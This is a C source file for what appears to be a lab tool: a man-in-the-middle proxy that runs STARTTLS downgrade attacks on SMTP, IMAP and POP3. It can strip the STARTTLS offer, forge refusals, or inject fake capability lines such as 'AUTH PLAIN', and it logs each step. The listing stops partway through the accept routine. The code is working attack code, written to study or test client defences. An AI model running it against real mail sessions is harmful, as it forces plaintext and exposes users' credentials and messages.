/*
 * proxy: the lab's man in the middle. One process listens; each client gets
 * a child process that connects upstream and relays, line by line while the
 * session is plaintext (where the attack applies), then byte for byte once
 * the upgrade has begun, reading nothing but the TLS record headers.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netdb.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "conn.h"
#include "escape.h"
#include "proto.h"
#include "proxy.h"
#include "record.h"
#include "util.h"

#define PX_CONNECT_MS 10000
#define PX_IDLE_MS 120000
#define PX_READ_CHUNK 16384
/* A plaintext line longer than this (terminator included) is relayed in
 * pieces as it arrives instead of being held whole. */
#define PX_LINE_MAX (PROTO_LINE_CAP + 2)
/* Stop reading a side while this much waits to be written to the other. */
#define PX_OUT_MAX (256u * 1024)
/* Longest piece of a line copied into the log. */
#define PX_LOG_MAX 1024
/* TLS records listed one by one per direction; the rest are only counted. */
#define PX_RECORDS_LISTED 32
#define PX_TAG_MAX 64

static const struct {
	const char *name;
	const char *text;
} proxy_attacks[PROXY_ATTACK_COUNT] = {
#define PROXY_ATTACK_ROW(sym, n, t) [PROXY_##sym] = {n, t},
    PROXY_ATTACKS(PROXY_ATTACK_ROW)
#undef PROXY_ATTACK_ROW
};

/* What the proxy says in each protocol's name. Replies to STARTTLS follow the
 * client's tag in IMAP. */
struct px_proto {
	const char *not_supported; /* strip: STARTTLS is not even a command here */
	const char *refusal;       /* refuse: the upgrade is "unavailable" */
	const char *forged;        /* inject: sent right behind the go-ahead */
};

static const struct px_proto px_protos[PROTO_COUNT] = {
    [PROTO_SMTP] = {.not_supported = "502 5.5.1 STARTTLS not supported\r\n",
                    .refusal = "454 4.7.0 TLS not available\r\n",
                    .forged = "250-INJECTED\r\n250 AUTH PLAIN\r\n"},
    [PROTO_IMAP] = {.not_supported = "BAD STARTTLS not supported\r\n",
                    .refusal = "NO TLS not available\r\n",
                    .forged = "* CAPABILITY IMAP4rev1 AUTH=PLAIN\r\n"},
    [PROTO_POP3] = {.not_supported = "-ERR STLS not supported\r\n",
                    .refusal = "-ERR TLS not available\r\n",
                    .forged = "+OK injected\r\n"},
};

struct px_buf {
	unsigned char *p;
	size_t len, cap;
};

struct px_conn;

/* One direction of the relay: bytes read from one socket, written to the other. */
struct px_side {
	const char *name;      /* "client->server" */
	const char *arrow;     /* plaintext line marker, as in batch text */
	const char *tls_arrow; /* the same for encrypted bytes */
	int from, to;
	struct px_buf in;  /* read in plaintext, not yet a complete line */
	struct px_buf out; /* waiting to be written to the other socket */
	bool long_line;    /* inside a line longer than PX_LINE_MAX */
	bool eof, shut;
	uint64_t plain_bytes;
	struct px_conn *conn;
	struct record_scanner scan; /* the record layer after the go-ahead */
	unsigned listed;            /* records logged one by one */
};

/* A reply the proxy makes up itself, due once the server has completed
 * `ends` more replies (so it reaches the client in order). */
struct px_local {
	unsigned char *text;
	size_t len;
	unsigned ends;
};

struct px_conn {
	const struct proxy_config *cfg;
	const struct proto_info *info;
	unsigned id;
	struct framer *fr;
	struct px_side up;   /* client -> server */
	struct px_side down; /* server -> client */
	bool raw;            /* the upgrade began: bytes pass untouched */
	bool starttls_waiting;
	unsigned starttls_ends; /* SMTP, POP3: replies due before STARTTLS's */
	char starttls_tag[PX_TAG_MAX];
	struct px_buf held; /* SMTP strip: the reply line held back */
	struct px_local *locals;
	size_t nlocals;
	bool failed;
	double last_io;
};

const char *
proxy_attack_name(enum proxy_attack a)
{
	return (unsigned)a < PROXY_ATTACK_COUNT ? proxy_attacks[a].name : "unknown";
}

const char *
proxy_attack_text(enum proxy_attack a)
{
	return (unsigned)a < PROXY_ATTACK_COUNT ? proxy_attacks[a].text : "unknown attack";
}

int
proxy_attack_from_name(const char *name)
{
	if (name == NULL)
		return -1;
	for (int i = 0; i < PROXY_ATTACK_COUNT; i++) {
		if (strcasecmp(name, proxy_attacks[i].name) == 0)
			return i;
	}
	return -1;
}

static void
px_buf_add(struct px_buf *b, const void *data, size_t n)
{
	if (n == 0)
		return;
	if (b->len + n > b->cap) {
		size_t ncap = b->cap ? b->cap : 1024;
		while (ncap < b->len + n)
			ncap *= 2;
		b->p = xrealloc(b->p, ncap);
		b->cap = ncap;
	}
	memcpy(b->p + b->len, data, n);
	b->len += n;
}

static void
px_buf_drop(struct px_buf *b, size_t n)
{
	if (n >= b->len) {
		b->len = 0;
		return;
	}
	memmove(b->p, b->p + n, b->len - n);
	b->len -= n;
}

static void
px_buf_free(struct px_buf *b)
{
	free(b->p);
	memset(b, 0, sizeof(*b));
}

/* Writes one line to the log, "proxy: ..." for the listener and "proxy[N]:
 * ..." for connection N, flushed at once so processes do not mix lines. */
static void __attribute__((format(printf, 3, 4)))
px_logf(FILE *log, unsigned id, const char *fmt, ...)
{
	va_list ap;

	if (log == NULL)
		return;
	va_start(ap, fmt);
	char *text = str_vprintf(fmt, ap);
	va_end(ap);
	if (id == 0)
		fprintf(log, "proxy: %s\n", text);
	else
		fprintf(log, "proxy[%u]: %s\n", id, text);
	fflush(log);
	free(text);
}

/* Escaped text of bytes for the log, cut at PX_LOG_MAX with a count of the rest. */
static char *
px_escaped(const unsigned char *data, size_t len)
{
	size_t shown = len > PX_LOG_MAX ? PX_LOG_MAX : len;
	char *esc = escape_bytes(data, shown, ESCAPE_TEXT);

	if (shown == len)
		return esc;
	char *cut = str_printf("%s... (%zu more bytes)", esc, len - shown);
	free(esc);
	return cut;
}

/* Logs a plaintext line (or piece) with its direction marker and a note. */
static void
px_log_line(const struct px_conn *c, const char *marker, const unsigned char *data,
            size_t len, const char *note)
{
	if (c->cfg->log == NULL)
		return;
	char *esc = px_escaped(data, len);
	px_logf(c->cfg->log, c->id, "%s %s%s", marker, esc, note);
	free(esc);
}

/* Length of a line without its LF or CRLF terminator. */
static size_t
px_content_len(const unsigned char *raw, size_t n)
{
	if (n > 0 && raw[n - 1] == '\n')
		n--;
	if (n > 0 && raw[n - 1] == '\r')
		n--;
	return n;
}

/* True if the first word of (p, n) is w, ignoring case. */
static bool
px_first_word_is(const unsigned char *p, size_t n, const char *w)
{
	size_t wl = strlen(w);

	return n >= wl && strncasecmp((const char *)p, w, wl) == 0 &&
	       (n == wl || p[wl] == ' ');
}

/* Names one TLS record as an eavesdropper sees it: type, size, version, and
 * the handshake message while handshake records are readable. */
static void
px_on_record(void *arg, const struct record *r)
{
	struct px_side *s = arg;
	const struct px_conn *c = s->conn;
	bool hs = r->type == RECORD_HANDSHAKE;
	const char *hs_name =
	    hs && r->readable && r->head_len > 0 ? record_handshake_name(r->head[0]) : NULL;

	if (s->listed > PX_RECORDS_LISTED)
		return;
	if (s->listed++ == PX_RECORDS_LISTED) {
		px_logf(c->cfg->log, c->id,
		        "%s %s: further records are counted, not listed", s->tls_arrow,
		        s->name);
		return;
	}
	px_logf(c->cfg->log, c->id,
	        "%s TLS record: %s%s%s%s, %zu byte%s, record version 0x%04x", s->tls_arrow,
	        record_type_name(r->type), hs && !r->readable ? " (encrypted)" : "",
	        hs_name ? " " : "", hs_name ? hs_name : "", r->length,
	        r->length == 1 ? "" : "s", r->version);
}

/* Follows record headers over bytes relayed raw: it can see each record's
 * type, version and size (and the first handshake messages) but nothing
 * inside the encrypted ones. */
static void
px_scan_feed(struct px_conn *c, struct px_side *s, const unsigned char *p, size_t n)
{
	const unsigned char *h = s->scan.bad;
	bool was_broken = s->scan.broken;

	record_scan_feed(&s->scan, p, n);
	if (was_broken || !s->scan.broken)
		return;
	px_logf(c->cfg->log, c->id,
	        "%s %s: these bytes do not look like TLS records "
	        "(header %02x %02x %02x %02x %02x); counting bytes only",
	        s->tls_arrow, s->name, h[0], h[1], h[2], h[3], h[4]);
}

/* Logs what one direction carried after the go-ahead. */
static void
px_scan_summary(struct px_conn *c, struct px_side *s)
{
	const struct record_scanner *sc = &s->scan;
	char types[256] = "";
	size_t used = 0;

	for (unsigned t = 0; t < RECORD_TYPE_COUNT; t++) {
		if (sc->by_type[t] == 0)
			continue;
		int k = snprintf(types + used, sizeof(types) - used, "%s%s %lu",
		                 used ? ", " : "",
		                 record_type_name((unsigned char)(t + RECORD_TYPE_FIRST)),
		                 sc->by_type[t]);
		if (k < 0 || (size_t)k >= sizeof(types) - used)
			break;
		used += (size_t)k;
	}
	px_logf(
	    c->cfg->log, c->id,
	    "== %s after the go-ahead: %llu bytes relayed unread, %lu TLS record%s%s%s%s%s",
	    s->name, (unsigned long long)sc->bytes, sc->records,
	    sc->records == 1 ? "" : "s", used ? " (" : "", types, used ? ")" : "",
	    sc->broken ? "; then bytes that are not TLS records" : "");
}

/* Queues bytes for the client, after any SMTP reply line held back. */
static void
px_to_client(struct px_conn *c, const void *data, size_t n)
{
	if (c->held.len > 0) {
		px_buf_add(&c->down.out, c->held.p, c->held.len);
		c->held.len = 0;
	}
	px_buf_add(&c->down.out, data, n);
}

/* Sends the proxy's own replies whose turn has come. */
static void
px_locals_due(struct px_conn *c)
{
	size_t k = 0;

	while (k < c->nlocals && c->locals[k].ends == 0) {
		px_to_client(c, c->locals[k].text, c->locals[k].len);
		free(c->locals[k].text);
		k++;
	}
	if (k == 0)
		return;
	memmove(c->locals, c->locals + k, (c->nlocals - k) * sizeof(*c->locals));
	c->nlocals -= k;
}

/* Counts one completed server reply towards the proxy's own replies. */
static void
px_locals_count_end(struct px_conn *c)
{
	for (size_t i = 0; i < c->nlocals; i++) {
		if (c->locals[i].ends > 0)
			c->locals[i].ends--;
	}
}

static void
px_locals_add(struct px_conn *c, const char *tag, const char *body)
{
	char *text = str_printf("%s%s%s", tag, *tag ? " " : "", body);

	c->locals = xrealloc(c->locals, (c->nlocals + 1) * sizeof(*c->locals));
	c->locals[c->nlocals++] = (struct px_local){
	    .text = (unsigned char *)text,
	    .len = strlen(text),
	    .ends = framer_pending(c->fr),
	};
	px_locals_due(c);
}

/* SMTP strip holds each line of a reply back until the next one arrives, so
 * that when the last line is dropped the one before can become the last. */
static bool
px_holds_lines(const struct px_conn *c)
{
	return c->cfg->attack == PROXY_STRIP && c->info->id == PROTO_SMTP;
}

static void
px_emit_server(struct px_conn *c, const unsigned char *raw, size_t n, bool end)
{
	if (px_holds_lines(c) && !end) {
		px_to_client(c, NULL, 0);
		px_buf_add(&c->held, raw, n);
		return;
	}
	px_to_client(c, raw, n);
}

/* Strip: drops an SMTP or POP3 capability line that offers the upgrade. An
 * SMTP reply must still end with "250 ": if the dropped line was the last,
 * the held line before it takes its place. */
static bool
px_strip_whole_line(struct px_conn *c, const struct proto_line *ln)
{
	const char *cap = c->info->starttls_cap;

	if (ln->flags & PROTO_LINE_END) {
		if (c->held.len < 4 || c->held.p[3] != '-')
			return false;
		char *before =
		    px_escaped(c->held.p, px_content_len(c->held.p, c->held.len));
		c->held.p[3] = ' ';
		char *after = px_escaped(c->held.p, px_content_len(c->held.p, c->held.len));
		px_logf(c->cfg->log, c->id,
		        "!! strip: dropped this line, so \"%s\" is rewritten as \"%s\" "
		        "to end the reply; the client never learns the server offers %s",
		        before, after, cap);
		free(before);
		free(after);
		px_to_client(c, NULL, 0);
		return true;
	}
	px_logf(c->cfg->log, c->id,
	        "!! strip: dropped this line; the client never learns the server offers %s",
	        cap);
	return true;
}

/* Strip: removes the STARTTLS atom (and the space before it) from an IMAP
 * CAPABILITY response or [CAPABILITY ...] code, keeping the rest byte for byte. */
static bool
px_strip_imap_atom(struct px_conn *c, const unsigned char *raw, size_t n,
                   const struct proto_line *ln, const struct proto_cap *caps, size_t ncaps)
{
	struct px_buf line = {0};
	size_t from = 0;
	bool removed = false;

	for (size_t i = 0; i < ncaps; i++) {
		if (!px_first_word_is(caps[i].data, caps[i].len, c->info->starttls_cap) ||
		    caps[i].len != strlen(c->info->starttls_cap))
			continue;
		size_t at = (size_t)(caps[i].data - ln->data);
		if (at == 0 || raw[at - 1] != ' ')
			continue;
		px_buf_add(&line, raw + from, at - 1 - from);
		from = at + caps[i].len;
		removed = true;
	}
	if (!removed)
		return false;
	px_buf_add(&line, raw + from, n - from);
	char *esc = px_escaped(line.p, px_content_len(line.p, line.len));
	px_logf(c->cfg->log, c->id, "!! strip: removed the %s atom; the client sees \"%s\"",
	        c->info->starttls_cap, esc);
	free(esc);
	px_emit_server(c, line.p, line.len, ln->flags & PROTO_LINE_END);
	px_buf_free(&line);
	return true;
}

/* Strip: rewrites a capability line if it offers the upgrade. Returns true
 * when the line was dealt with (dropped or rewritten and queued). */
static bool
px_strip(struct px_conn *c, const unsigned char *raw, size_t n, const struct proto_line *ln)
{
	struct proto_cap caps[128];
	size_t ncaps = proto_line_caps(c->info->id, ln, caps, 128);

	if (ncaps > 128)
		ncaps = 128;
	if (c->info->id == PROTO_IMAP)
		return px_strip_imap_atom(c, raw, n, ln, caps, ncaps);
	if (ncaps == 0 ||
	    !px_first_word_is(caps[0].data, caps[0].len, c->info->starttls_cap))
		return false;
	return px_strip_whole_line(c, ln);
}

/* Decides what a complete server line becomes on its way to the client. */
static void
px_server_line(struct px_conn *c, const unsigned char *raw, size_t n,
               const struct proto_line *ln)
{
	px_log_line(c, c->down.arrow, ln->data, ln->len, "");
	if (c->cfg->attack == PROXY_STRIP && (ln->flags & PROTO_LINE_CAPS) &&
	    px_strip(c, raw, n, ln))
		return;
	px_emit_server(c, raw, n, ln->flags & PROTO_LINE_END);
}

/* True if this completed reply answers the STARTTLS the proxy forwarded. */
static bool
px_answers_starttls(struct px_conn *c, const struct proto_line *ln)
{
	if (c->info->id == PROTO_IMAP)
		return ln->tag != NULL && ln->tag_len == strlen(c->starttls_tag) &&
		       memcmp(ln->tag, c->starttls_tag, ln->tag_len) == 0;
	if (c->starttls_ends > 0) {
		c->starttls_ends--;
		return false;
	}
	return true;
}

/* The upgrade begins: from here both directions are relayed raw. Bytes that
 * came in behind the go-ahead or the STARTTLS line go along unread. */
static void
px_begin_raw(struct px_conn *c)
{
	struct px_side *sides[2] = {&c->down, &c->up};

	c->raw = true;
	px_logf(
	    c->cfg->log, c->id,
	    "== the upgrade begins: from here the proxy relays TLS bytes it cannot read; "
	    "it still sees each record's type and size, as any eavesdropper does");
	px_to_client(c, NULL, 0);
	for (size_t i = 0; i < c->nlocals; i++)
		free(c->locals[i].text);
	c->nlocals = 0;
	for (int i = 0; i < 2; i++) {
		struct px_side *s = sides[i];
		if (s->in.len == 0)
			continue;
		px_logf(c->cfg->log, c->id,
		        "!! %zu bytes (%s) arrived behind the go-ahead in plaintext; "
		        "relayed as they are",
		        s->in.len, s->name);
		px_buf_add(&s->out, s->in.p, s->in.len);
		px_scan_feed(c, s, s->in.p, s->in.len);
		s->plain_bytes -= s->in.len;
		s->in.len = 0;
	}
}

/* Inject: the forged lines ride behind the go-ahead in the same write. */
static void
px_inject(struct px_conn *c)
{
	const char *forged = px_protos[c->info->id].forged;
	char *esc =
	    escape_bytes((const unsigned char *)forged, strlen(forged), ESCAPE_TEXT);

	px_to_client(c, forged, strlen(forged));
	px_logf(c->cfg->log, c->id,
	        "!! inject: appended \"%s\" to the go-ahead, in the same segment; "
	        "a careful client discards it, a careless one believes it",
	        esc);
	free(esc);
}

/* One piece of server plaintext: a whole line, or a piece of a long line or
 * of an IMAP literal (relayed as is). Returns true at the go-ahead. */
static bool
px_server_unit(struct px_conn *c, const unsigned char *raw, size_t n, bool whole)
{
	struct proto_line ln;
	bool handled = false, goahead = false, refused = false;
	unsigned ends = 0;

	if (framer_feed(c->fr, raw, n) < 0)
		fatal("out of memory");
	for (size_t k = 0; framer_next(c->fr, &ln) == 1; k++) {
		if (k == 0 && whole &&
		    !(ln.flags & (PROTO_LINE_LITERAL | PROTO_LINE_TRUNCATED)) &&
		    ln.len == px_content_len(raw, n)) {
			px_server_line(c, raw, n, &ln);
			handled = true;
		}
		if (!(ln.flags & PROTO_LINE_END))
			continue;
		ends++;
		if (c->starttls_waiting && px_answers_starttls(c, &ln)) {
			c->starttls_waiting = false;
			goahead = ln.reply == PROTO_REPLY_OK;
			refused = !goahead;
		}
	}
	if (!handled) {
		px_log_line(c, c->down.arrow, raw, px_content_len(raw, n),
		            whole ? "" : "  (piece of a literal or long line)");
		px_to_client(c, raw, n);
	}
	while (ends-- > 0)
		px_locals_count_end(c);
	px_locals_due(c);
	if (refused)
		px_logf(c->cfg->log, c->id,
		        "== the server refused the upgrade; the session stays plaintext");
	if (goahead && c->cfg->attack == PROXY_INJECT)
		px_inject(c);
	return goahead;
}

/* Answers the client's STARTTLS as the attack says: strip and refuse reply
 * themselves (the server never sees it); pass and inject forward it. */
static void
px_client_starttls(struct px_conn *c, const unsigned char *raw, size_t n, size_t len)
{
	char tag[PX_TAG_MAX] = "";
	enum proxy_attack a = c->cfg->attack;

	if (c->info->id == PROTO_IMAP) {
		const unsigned char *sp = memchr(raw, ' ', len);
		size_t tl = sp ? (size_t)(sp - raw) : 0;
		if (tl >= sizeof(tag))
			tl = sizeof(tag) - 1;
		memcpy(tag, raw, tl);
		tag[tl] = '\0';
	}
	if (a == PROXY_STRIP || a == PROXY_REFUSE) {
		const char *body = a == PROXY_STRIP ? px_protos[c->info->id].not_supported
		                                    : px_protos[c->info->id].refusal;
		char *esc = escape_bytes((const unsigned char *)body, strlen(body) - 2,
		                         ESCAPE_TEXT);
		char *etag =
		    escape_bytes((const unsigned char *)tag, strlen(tag), ESCAPE_TEXT);
		px_logf(
		    c->cfg->log, c->id,
		    "!! %s: answered %s itself with \"%s%s%s\"; the server never saw it",
		    proxy_attack_name(a), c->info->starttls_command, etag, *tag ? " " : "",
		    esc);
		free(esc);
		free(etag);
		px_locals_add(c, tag, body);
		return;
	}
	c->starttls_waiting = true;
	c->starttls_ends = framer_pending(c->fr);
	memcpy(c->starttls_tag, tag, sizeof(tag));
	framer_sent(c->fr, raw, len);
	px_buf_add(&c->up.out, raw, n);
	px_logf(c->cfg->log, c->id,
	        "== %s forwarded; waiting for the server's go-ahead (%s)",
	        c->info->starttls_command, c->info->go_ahead);
}

/* One piece of client plaintext: a whole line, or a piece of a long one. */
static void
px_client_unit(struct px_conn *c, const unsigned char *raw, size_t n, bool whole,
               bool starts_line)
{
	size_t len = whole ? px_content_len(raw, n) : n;

	if (!starts_line) {
		px_buf_add(&c->up.out, raw, n);
		return;
	}
	px_log_line(c, c->up.arrow, raw, len, whole ? "" : "  (start of a long line)");
	if (whole && !framer_in_data(c->fr) && proto_is_starttls(c->info->id, raw, len)) {
		px_client_starttls(c, raw, n, len);
		return;
	}
	framer_sent(c->fr, raw, len);
	px_buf_add(&c->up.out, raw, n);
}

/* Cuts the next unit from a side's plaintext buffer: a line up to its LF, or
 * everything so far of a line that outgrew PX_LINE_MAX. */
static bool
px_next_unit(struct px_side *s, size_t *n, bool *whole, bool *starts_line)
{
	const unsigned char *lf = memchr(s->in.p, '\n', s->in.len);

	*starts_line = !s->long_line;
	if (lf != NULL) {
		*n = (size_t)(lf - s->in.p) + 1;
		*whole = !s->long_line;
		s->long_line = false;
		return true;
	}
	if (s->in.len <= PX_LINE_MAX)
		return false;
	*n = s->in.len;
	*whole = false;
	s->long_line = true;
	return true;
}

/* Works through plaintext read from one side, unit by unit, until the
 * buffer holds only a partial line or the upgrade begins. */
static void
px_process(struct px_conn *c, struct px_side *s)
{
	size_t n;
	bool whole, starts;

	while (!c->raw && s->in.len > 0 && px_next_unit(s, &n, &whole, &starts)) {
		bool goahead = false;
		if (s == &c->down)
			goahead = px_server_unit(c, s->in.p, n, whole);
		else
			px_client_unit(c, s->in.p, n, whole, starts);
		px_buf_drop(&s->in, n);
		if (goahead)
			px_begin_raw(c);
	}
}

/* At EOF in plaintext, what is left is a partial line: it goes along as is. */
static void
px_flush_partial(struct px_conn *c, struct px_side *s)
{
	if (s->in.len > 0) {
		px_log_line(c, s->arrow, s->in.p, s->in.len,
		            "  (no line end before the close)");
		if (s == &c->down)
			px_to_client(c, s->in.p, s->in.len);
		else
			px_buf_add(&s->out, s->in.p, s->in.len);
		s->in.len = 0;
	}
	if (s == &c->down) {
		px_to_client(c, NULL, 0);
		for (size_t i = 0; i < c->nlocals; i++)
			c->locals[i].ends = 0;
		px_locals_due(c);
	}
}

static void
px_read(struct px_conn *c, struct px_side *s)
{
	unsigned char buf[PX_READ_CHUNK];
	ssize_t n = recv(s->from, buf, sizeof(buf), 0);

	if (n < 0) {
		if (errno == EAGAIN || errno == EWOULDBLOCK || errno == EINTR)
			return;
		px_logf(c->cfg->log, c->id, "** reading (%s) failed: %s", s->name,
		        strerror(errno));
		c->failed = true;
		return;
	}
	c->last_io = util_now_ms();
	if (n == 0) {
		s->eof = true;
		px_logf(c->cfg->log, c->id, "== %s closed its side",
		        s == &c->up ? "the client" : "the server");
		if (!c->raw)
			px_flush_partial(c, s);
		return;
	}
	if (c->raw) {
		px_buf_add(&s->out, buf, (size_t)n);
		px_scan_feed(c, s, buf, (size_t)n);
		return;
	}
	s->plain_bytes += (uint64_t)n;
	px_buf_add(&s->in, buf, (size_t)n);
	px_process(c, s);
}

/* Writes what a side has queued, as much as the socket takes now. */
static void
px_write(struct px_conn *c, struct px_side *s)
{
	while (s->out.len > 0 && !c->failed) {
		ssize_t n = send(s->to, s->out.p, s->out.len, MSG_NOSIGNAL);
		if (n > 0) {
			px_buf_drop(&s->out, (size_t)n);
			c->last_io = util_now_ms();
			continue;
		}
		if (n < 0 && errno == EINTR)
			continue;
		if (n < 0 && (errno == EAGAIN || errno == EWOULDBLOCK))
			return;
		px_logf(c->cfg->log, c->id, "** writing (%s) failed: %s", s->name,
		        n < 0 ? strerror(errno) : "nothing written");
		c->failed = true;
	}
}

static bool
px_wants_read(const struct px_conn *c, const struct px_side *s)
{
	return !s->eof && !c->failed && s->out.len < PX_OUT_MAX;
}

/* Relays until both directions are closed, an error, or the idle timeout. */
static void
px_relay(struct px_conn *c)
{
	c->last_io = util_now_ms();
	for (;;) {
		struct px_side *sides[2] = {&c->up, &c->down};
		for (int i = 0; i < 2; i++) {
			struct px_side *s = sides[i];
			if (s->eof && s->out.len == 0 && !s->shut) {
				shutdown(s->to, SHUT_WR);
				s->shut = true;
			}
		}
		if (c->failed || (c->up.shut && c->down.shut))
			return;
		struct pollfd pf[2] = {
		    {.fd = c->up.from,
		     .events = (short)((px_wants_read(c, &c->up) ? POLLIN : 0) |
		                       (c->down.out.len ? POLLOUT : 0))},
		    {.fd = c->down.from,
		     .events = (short)((px_wants_read(c, &c->down) ? POLLIN : 0) |
		                       (c->up.out.len ? POLLOUT : 0))},
		};
		int left = (int)(c->last_io + PX_IDLE_MS - util_now_ms());
		int n = poll(pf, 2, left > 0 ? left : 0);
		if (n < 0 && errno == EINTR)
			continue;
		if (n < 0) {
			px_logf(c->cfg->log, c->id, "** poll failed: %s", strerror(errno));
			return;
		}
		if (n == 0) {
			px_logf(c->cfg->log, c->id,
			        "== nothing moved for %d s: closing the connection",
			        PX_IDLE_MS / 1000);
			return;
		}
		for (int i = 0; i < 2; i++) {
			if ((pf[i].revents & (POLLIN | POLLHUP | POLLERR)) &&
			    px_wants_read(c, sides[i]))
				px_read(c, sides[i]);
		}
		px_write(c, &c->up);
		px_write(c, &c->down);
	}
}

static void
px_side_init(struct px_side *s, struct px_conn *c, const char *name, const char *arrow,
             const char *tls_arrow, int from, int to)
{
	memset(s, 0, sizeof(*s));
	s->conn = c;
	record_scan_init(&s->scan, px_on_record, s);
	s->name = name;
	s->arrow = arrow;
	s->tls_arrow = tls_arrow;
	s->from = from;
	s->to = to;
}

/* Serves one client in its own process: connects upstream, relays, logs. */
static void
px_serve(const struct proxy_config *cfg, int cfd, unsigned id)
{
	struct conn_result res;
	char *cause = NULL;

	if (conn_open(cfg->upstream_host, cfg->upstream_port, PX_CONNECT_MS, &res, &cause) <
	    0) {
		px_logf(cfg->log, id,
		        "** cannot reach the upstream server: %s; closing the client",
		        cause);
		free(cause);
		return;
	}
	int fl = fcntl(cfd, F_GETFL);
	if (fl >= 0)
		(void)fcntl(cfd, F_SETFL, fl | O_NONBLOCK);
	px_logf(cfg->log, id, "== upstream %s:%u connected in %.0f ms", res.address,
	        res.port, res.connect_ms);

	struct px_conn c = {.cfg = cfg, .info = proto_info(cfg->proto), .id = id};
	c.fr = framer_new(cfg->proto);
	if (c.fr == NULL)
		fatal("out of memory");
	px_side_init(&c.up, &c, "client->server", "->", "~>", cfd, res.fd);
	px_side_init(&c.down, &c, "server->client", "<-", "<~", res.fd, cfd);
	px_relay(&c);

	px_logf(cfg->log, id,
	        "== plaintext relayed: %llu bytes client->server, "
	        "%llu bytes server->client",
	        (unsigned long long)c.up.plain_bytes,
	        (unsigned long long)c.down.plain_bytes);
	if (c.raw) {
		record_scan_finish(&c.up.scan);
		record_scan_finish(&c.down.scan);
		px_scan_summary(&c, &c.up);
		px_scan_summary(&c, &c.down);
	}
	framer_free(c.fr);
	px_buf_free(&c.up.in);
	px_buf_free(&c.up.out);
	px_buf_free(&c.down.in);
	px_buf_free(&c.down.out);
	px_buf_free(&c.held);
	for (size_t i = 0; i < c.nlocals; i++)
		free(c.locals[i].text);
	free(c.locals);
	close(res.fd);
}

/* Numeric "address:port" of a socket address ("[::1]:25" for IPv6). */
static void
px_addr_text(const struct sockaddr *sa, socklen_t len, char *out, size_t outsz)
{
	char host[NI_MAXHOST], serv[NI_MAXSERV];

	if (getnameinfo(sa, len, host, sizeof(host), serv, sizeof(serv),
	                NI_NUMERICHOST | NI_NUMERICSERV) != 0) {
		snprintf(out, outsz, "?");
		return;
	}
	snprintf(out, outsz, sa->sa_family == AF_INET6 ? "[%s]:%s" : "%s:%s", host, serv);
}

static bool
px_is_loopback(const struct sockaddr *sa)
{
	if (sa->sa_family == AF_INET) {
		const struct sockaddr_in *in = (const struct sockaddr_in *)sa;
		return (ntohl(in->sin_addr.s_addr) >> 24) == 127;
	}
	if (sa->sa_family == AF_INET6) {
		const struct in6_addr *a = &((const struct sockaddr_in6 *)sa)->sin6_addr;
		return IN6_IS_ADDR_LOOPBACK(a) ||
		       (IN6_IS_ADDR_V4MAPPED(a) && a->s6_addr[12] == 127);
	}
	return false;
}

/* Binds and listens on host:port (port 0: an ephemeral one). Fills text with
 * the address actually bound and *loopback with whether it is loopback. */
static int
px_listen(const char *host, unsigned port, char *text, size_t textsz, bool *loopback,
          char **cause)
{
	struct addrinfo hints = {.ai_family = AF_UNSPEC,
	                         .ai_socktype = SOCK_STREAM,
	                         .ai_flags = AI_PASSIVE | AI_NUMERICSERV};
	struct addrinfo *list = NULL;
	char portstr[16];
	int err = 0;

	snprintf(portstr, sizeof(portstr), "%u", port);
	int rc = getaddrinfo(host, portstr, &hints, &list);
	if (rc != 0) {
		*cause = str_printf("cannot resolve the listen address %s: %s", host,
		                    gai_strerror(rc));
		return -1;
	}
	for (struct addrinfo *ai = list; ai != NULL; ai = ai->ai_next) {
		int fd =
		    socket(ai->ai_family, ai->ai_socktype | SOCK_CLOEXEC, ai->ai_protocol);
		if (fd < 0) {
			err = errno;
			continue;
		}
		int one = 1;
		(void)setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
		if (bind(fd, ai->ai_addr, ai->ai_addrlen) < 0 || listen(fd, 64) < 0) {
			err = errno;
			close(fd);
			continue;
		}
		struct sockaddr_storage ss;
		socklen_t sl = sizeof(ss);
		if (getsockname(fd, (struct sockaddr *)&ss, &sl) < 0) {
			err = errno;
			close(fd);
			continue;
		}
		px_addr_text((const struct sockaddr *)&ss, sl, text, textsz);
		*loopback = px_is_loopback((const struct sockaddr *)&ss);
		freeaddrinfo(list);
		return fd;
	}
	freeaddrinfo(list);
	*cause =
	    str_printf("cannot listen on %s port %u: %s; choose another port or address",
	               host, port, strerror(err ? err : EADDRNOTAVAIL));
	return -1;
}

static volatile sig_atomic_t px_stop_signal;

static void
px_on_signal(int sig)
{
	if (sig != SIGCHLD)
		px_stop_signal = sig;
}

/* The listener's bookkeeping: its children, by pid. */
struct px_children {
	pid_t *pids;
	size_t n;
};

/* Reaps the children that have ended, without waiting for the others. */
static void
px_reap(struct px_children *ch)
{
	size_t k = 0;

	for (size_t i = 0; i < ch->n; i++) {
		pid_t r = waitpid(ch->pids[i], NULL, WNOHANG);
		if (r == 0 || (r < 0 && errno == EINTR))
			ch->pids[k++] = ch->pids[i];
	}
	ch->n = k;
}

/* Accepts one client and forks its relay. The child restores the signal
 * dispositions, dies with the listener and never returns. */
static void
px_accept(const struct proxy_config *cfg, int lfd, unsigned id, struct px_children *ch,
          const sigset_t *oldmask)
{
	struct sockaddr_storage ss;
	socklen_t sl = sizeof(ss);
	int cfd = accept4(lfd, (struct sockaddr *)&ss, &sl, SOCK_CLOEXEC);

	if (cfd < 0) {
		if (errno == EAGAIN || errno == EWOULDBLOCK || errno == EINTR ||
		    errno == ECONNABORTED)
			return;
		px_logf(cfg->log, 0, "** accept failed: %s", strerror(errno));
		struct timespec ts = {0, 100 * 1000000L};
		nanosleep(&ts, NULL);
		return;
	}
	char peer[96];
	px_addr_text((const struct sockaddr *)&ss, sl, peer, sizeof(peer));
	px_logf(cfg->log, id, "== client %s connected", peer);
	if (cfg->log != NULL)
		fflush(cfg->log);
	pid_t parent = getpid();
	pid_t pid = fork();
	if (pid < 0) {
		px_logf(cfg->log, id, "** cannot fork: %s; closing the client",
		        strerror(errno));
		close(cfd);
		return;
	}
	if (pid == 0) {
		struct sigaction dfl = {.sa_handler = SIG_DFL};
		sigaction(SIGINT, &dfl, NULL);
		sigaction(SIGTERM, &dfl, NULL);
		sigaction(SIGCHLD, &dfl, NULL);
		sigprocmask(SIG_SETMASK, oldmask, NULL);
